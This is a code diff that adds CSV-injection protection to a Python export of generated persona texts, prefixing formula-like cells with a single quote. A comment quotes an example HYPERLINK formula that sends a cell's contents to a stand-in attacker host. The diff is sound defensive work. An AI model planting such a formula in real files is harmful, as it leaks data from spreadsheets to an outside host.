@@ -473,11 +473,24 @@ class _Echo:
         return value
 
 
+#: What makes a spreadsheet read a cell as a formula (OWASP's CSV injection list). Topics and
+#: quotes are visitors' and a model's words: `=HYPERLINK("https://evil.example/?"&C2,"x")`
+#: must stay text when an admin opens the export.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _neutralised(value: object) -> object:
+    """Text that a spreadsheet would run, prefixed with a single quote (OWASP); numbers as they are."""
+    if isinstance(value, str) and value.startswith(_FORMULA_START):
+        return "'" + value
+    return value
+
+
 def _csv_row(row: Generation) -> list[object]:
     def blank(value: object) -> object:
         return "" if value is None else value
 
-    return [
+    cells = [
         row.created_at.isoformat(),
         row.persona.slug,
         row.persona_version.number if row.persona_version else "",
@@ -498,6 +511,7 @@ def _csv_row(row: Generation) -> list[object]:
         row.topic,
         row.text,
     ]
+    return [_neutralised(cell) for cell in cells]
 
 
 def _csv_sync(rows: QuerySet[Generation]) -> Iterator[str]:
